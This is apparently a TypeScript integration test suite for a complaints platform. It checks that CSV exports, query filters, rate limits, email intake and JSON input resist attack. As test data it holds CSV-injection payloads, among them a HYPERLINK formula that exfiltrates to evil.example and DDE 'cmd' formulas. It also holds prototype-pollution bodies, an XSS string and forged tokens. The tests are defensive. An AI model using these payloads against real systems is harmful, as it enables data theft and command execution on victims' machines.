/**
 * Attackers at the HTTP boundary, each with credentials the platform issued: a complainant
 * planting spreadsheet formulas for the staff who open the exports, a client bursting across
 * routes to multiply its rate limit, and a client sending filters the validator let through to
 * PostgreSQL, oversize email, polluted JSON and a hostile correlation id (docs/security.md).
 * Real PostgreSQL, the embedded bus; each test failed on 7614b2a.
 */
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { openDatabase, type Database } from '@complaints/eventstore';
import { ApiKeys } from '@complaints/kit';
import { embeddedBusMigrations, PostgresTransport } from '@complaints/messaging';
import { analyticsService } from '@complaints/analytics';
import { intakeService } from '@complaints/intake';
import { reportCsv } from '../../services/intake/src/bulk-import/csv-import';
import { caseEvents, t } from '../fixtures/case-events';
import { complaintBody } from '../support/journey';
import { eventually } from '../support/database';
import { startInProcess, type InProcessService } from '../support/in-process';
import { as, tokenFor, type Who } from '../support/auth';

/** What a spreadsheet runs when a cell starts with it (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLANTED = {
  product: '=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")',
  customerId: "+cmd|' /C calc'!A0",
  rootCause: "-2+3+cmd|' /C calc'!A0",
  improvementAction: "@SUM(1+9)*cmd|' /C calc'!A0",
  category: '\t=1+1',
  department: '\r=1+1',
};

function cellsOf(csv: string): string[] {
  return (parse(csv, { relax_column_count: true }) as string[][]).flat();
}

describe('a complainant planting formulas in what staff export', () => {
  let analytics: InProcessService;
  let bus: Database;
  const csv = async (path: string) => {
    const response = await fetch(`${analytics.base}${path}`, { headers: await as('auditor') });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    return response.text();
  };

  beforeAll(async () => {
    analytics = await startInProcess(analyticsService);
    bus = await openDatabase({ url: analytics.testDb.url, schema: 'bus', migrations: embeddedBusMigrations });
    const events = [PLANTED.customerId, PLANTED.customerId].flatMap((customerId) =>
      caseEvents({
        tenant: 'default',
        policy: 'uk',
        customerId,
        channel: 'web',
        product: PLANTED.product,
        category: PLANTED.category,
        department: PLANTED.department,
        received: t('11-02 10:00'),
        steps: [
          ['resolved', t('11-03 10:00')],
          ['closed', t('11-04 10:00'), { rootCause: PLANTED.rootCause, improvementAction: PLANTED.improvementAction }],
        ],
      }),
    );
    await new PostgresTransport(bus).publish(events);
    await eventually('every event projected', async () => {
      const { rows } = await analytics.db.query<{ n: string }>('SELECT count(*) AS n FROM case_history');
      return Number(rows[0]!.n) === events.length ? true : undefined;
    });
  }, 60_000);
  afterAll(async () => {
    await bus?.close();
    await analytics?.close();
  });

  const ENDPOINTS = [
    '/audit/cases/export?format=csv',
    '/reports/fca?format=csv',
    '/reports/nfra?format=csv',
    '/kpis/root-causes?format=csv',
    '/kpis/repeat-complainants?format=csv',
    '/kpis/volumes?by=department&format=csv',
    '/kpis/volumes?by=category&format=csv',
    '/kpis/departments?format=csv',
    '/kpis/handling?format=csv',
    '/kpis/sla?format=csv',
    '/kpis/outcomes?format=csv',
  ];

  it.each(ENDPOINTS)('neutralises every formula in %s', async (path) => {
    const cells = cellsOf(await csv(path));
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
  });

  it('keeps the planted text readable, as text', async () => {
    const exported = cellsOf(await csv('/audit/cases/export?format=csv'));
    expect(exported).toContain(`'${PLANTED.customerId}`);
    expect(cellsOf(await csv('/reports/fca?format=csv'))).toContain(`'${PLANTED.product}`);
    const causes = cellsOf(await csv('/kpis/root-causes?format=csv'));
    expect(causes).toContain(`'${PLANTED.rootCause}`);
    expect(causes).toContain(`'${PLANTED.improvementAction}`);
  });

  it('neutralises formulas in the bulk import’s report file', () => {
    const report = reportCsv([
      { row: 2, status: 'rejected', reason: PLANTED.product },
      { row: 3, status: 'accepted', complaintId: randomUUID(), reference: PLANTED.customerId },
      { row: 4, status: 'rejected', reason: `${PLANTED.category}\r\n${PLANTED.rootCause}` },
    ]);
    const cells = cellsOf(report);
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(cells).toContain(`'${PLANTED.product}`);
  });
});

describe('a client sending filters the database would refuse', () => {
  let analytics: InProcessService;
  const get = async (path: string) => {
    const response = await fetch(`${analytics.base}${path}`, { headers: await as('auditor') }).catch(
      (error: Error) => error,
    );
    if (response instanceof Error) return { status: `connection failed: ${response.message}`, message: '' };
    const text = await response.text().catch((error: Error) => `body cut off: ${error.message}`);
    return { status: response.status, message: text };
  };

  beforeAll(async () => {
    analytics = await startInProcess(analyticsService);
  });
  afterAll(async () => analytics?.close());

  it.each([
    ['/audit/cases?receivedFrom=-271821-04-20T00:00:00Z', 'receivedFrom'],
    ['/audit/cases?receivedTo=2026-02-30', 'receivedTo'],
    ['/audit/cases/export?format=csv&receivedFrom=2026-02-30T10:00:00Z', 'receivedFrom'],
    ['/audit/cases/export?receivedTo=-271821-04-20T00:00:00Z', 'receivedTo'],
    ['/audit/cases?receivedFrom=1', 'receivedFrom'],
    ['/kpis/volumes?from=2026-02-30', 'from'],
    ['/kpis/handling?to=2026-11-01T24:00:00Z', 'to'],
    ['/reports/fca?from=Nov%201%202026', 'from'],
    ['/audit/cases?status[]=closed', 'status'],
    ['/audit/cases?limit[]=5', 'limit'],
    ['/audit/cases?limit=5&limit=6', 'limit'],
    ['/audit/cases/export?format=csv&department=cards&department=fraud', 'department'],
    ['/kpis/root-causes?limit[]=5', 'limit'],
    ['/kpis/volumes?by[]=channel', 'by'],
    ['/reports/nfra?format[]=csv', 'format'],
    ['/audit/cases?stauts=closed', 'stauts'],
    ['/kpis/sla?form=2026-11-01', 'form'],
  ])('answers %s with a 400 naming %s, before any query', async (path, parameter) => {
    const { status, message } = await get(path);
    expect({ status, names: message.includes(parameter) }).toEqual({ status: 400, names: true });
    expect(message).not.toMatch(/timestamp|out of range|syntax|SQLSTATE|invalid input|database/i);
  });
});

describe('a client bursting across routes', () => {
  let intake: InProcessService;
  beforeAll(async () => {
    intake = await startInProcess(intakeService, undefined, { RATE_LIMIT_PER_MINUTE: '6' });
  });
  afterAll(async () => intake?.close());

  it('counts one limit per client over every route, by token subject', async () => {
    const auditor: Who = { role: 'auditor', subject: 'scraper' };
    // Each request with a freshly signed token: the subject is the client, not the token.
    const get = async (path: string, who: Who) =>
      (await fetch(`${intake.base}${path}`, { headers: { authorization: `Bearer ${await tokenFor(who)}` } })).status;
    const statuses: number[] = [];
    for (let i = 0; i < 3; i++) statuses.push(await get(`/complaints/${randomUUID()}`, auditor));
    for (let i = 0; i < 3; i++) statuses.push(await get(`/attachments/${'0'.repeat(64)}`, auditor));
    statuses.push(await get(`/complaints/${randomUUID()}`, auditor));
    statuses.push(await get(`/audit/cases/${randomUUID()}/verify`, auditor));
    expect(statuses).toEqual([404, 404, 404, 404, 404, 404, 429, 429]);
    // Another client from the same address has its own allowance.
    expect(await get(`/complaints/${randomUUID()}`, { role: 'auditor', subject: 'someone-else' })).toBe(404);
  });

  it('counts an API key over every route, and made-up credentials against their address', async () => {
    const { key } = await new ApiKeys(intake.db).issue('default', 'cti', ['hotline']);
    const withKey = async (path: string, init: RequestInit = {}) =>
      (await fetch(`${intake.base}${path}`, { ...init, headers: { 'x-api-key': key, ...(init.headers ?? {}) } }))
        .status;
    const post = { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' };
    const statuses: number[] = [];
    for (let i = 0; i < 3; i++) statuses.push(await withKey('/complaints', post));
    for (let i = 0; i < 3; i++) statuses.push(await withKey('/channels/hotline', post));
    statuses.push(await withKey('/channels/branch', post));
    expect(statuses).toEqual([400, 400, 400, 400, 400, 400, 429]);

    // Tokens nobody signed, each naming another subject: all counted against the one address.
    const forged = async (path: string) =>
      (
        await fetch(`${intake.base}${path}`, {
          headers: { authorization: `Bearer ${Buffer.from(randomUUID()).toString('base64url')}.e30.c2ln` },
        })
      ).status;
    const refused: number[] = [];
    for (let i = 0; i < 3; i++) refused.push(await forged(`/complaints/${randomUUID()}`));
    for (let i = 0; i < 3; i++) refused.push(await forged(`/attachments/${'0'.repeat(64)}`));
    refused.push(await forged(`/complaints/${randomUUID()}`));
    expect(refused).toEqual([401, 401, 401, 401, 401, 401, 429]);
  });
});

describe('a client sending oversize email, polluted JSON and hostile correlation ids', () => {
  let intake: InProcessService;
  const complaints = async () =>
    Number(
      (await intake.db.query<{ n: string }>("SELECT count(*) AS n FROM events WHERE type = 'ComplaintReceived'"))
        .rows[0]!.n,
    );
  const email = (from: string, subject: string, body: string) =>
    Buffer.from(
      `From: ${from}\r\nTo: complaints@bank.example\r\nSubject: ${subject}\r\nMessage-ID: <${randomUUID()}@mail.example>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${body}\r\n`,
    );
  const postEmail = async (raw: Buffer) => {
    const response = await fetch(`${intake.base}/channels/email`, {
      method: 'POST',
      headers: { 'content-type': 'message/rfc822', ...(await as({ role: 'channel' })) },
      body: raw,
    });
    return { status: response.status, message: String(((await response.json()) as { detail?: string }).detail) };
  };
  const postJson = async (text: string, headers: Record<string, string> = {}) => {
    const response = await fetch(`${intake.base}/complaints`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(await as({ role: 'channel' })), ...headers },
      body: text,
    });
    return { status: response.status, message: String(((await response.json()) as { detail?: string }).detail) };
  };

  beforeAll(async () => {
    intake = await startInProcess(intakeService);
  });
  afterAll(async () => intake?.close());

  it('holds email to the limits of the JSON channels, naming the limit exceeded', async () => {
    const before = await complaints();
    const body = await postEmail(email('a@mail.example', 'fee', 'x'.repeat(5_000_000)));
    expect(body.status).toBe(400);
    expect(body.message).toMatch(/body.*20000/i);
    const subject = await postEmail(email('a@mail.example', 'y'.repeat(1_000_000), 'the fee'));
    expect(subject.status).toBe(400);
    expect(subject.message).toMatch(/Subject.*300/);
    const name = await postEmail(email(`"${'z'.repeat(100_000)}" <a@mail.example>`, 'fee', 'the fee'));
    expect(name.status).toBe(400);
    expect(name.message).toMatch(/display name.*200/i);
    const huge = await postEmail(email('a@mail.example', 'fee', 'w'.repeat(26 * 1024 * 1024)));
    expect(huge.status).toBe(413);
    expect(huge.message).toMatch(/25 MB/);
    expect(await complaints()).toBe(before);
    expect((await postEmail(email('a@mail.example', 'fee', 'the annual fee was charged'))).status).toBe(201);
  });

  it('refuses __proto__ and constructor keys like any other unknown field', async () => {
    const before = await complaints();
    const valid = JSON.stringify(complaintBody());
    for (const [polluted, field] of [
      [`{"__proto__":{"role":"admin"},${valid.slice(1)}`, '__proto__'],
      [`{"constructor":{"prototype":{"role":"admin"}},${valid.slice(1)}`, 'constructor'],
      [valid.replace('"complainant":{', '"complainant":{"__proto__":{"x":1},'), '__proto__'],
    ] as const) {
      const answer = await postJson(polluted);
      expect({ status: answer.status, names: answer.message.includes(field) }).toEqual({ status: 400, names: true });
    }
    expect(await complaints()).toBe(before);
  });

  it('bounds the correlation id in size and characters', async () => {
    const valid = JSON.stringify(complaintBody());
    for (const id of ['c'.repeat(2_000), '<script>alert(1)</script>', 'a b']) {
      const answer = await postJson(valid, { 'x-correlation-id': id });
      expect({ status: answer.status, names: /X-Correlation-Id/i.test(answer.message) }).toEqual({
        status: 400,
        names: true,
      });
    }
    expect((await postJson(valid, { 'x-correlation-id': `crm-${randomUUID()}` })).status).toBe(201);
  });
});
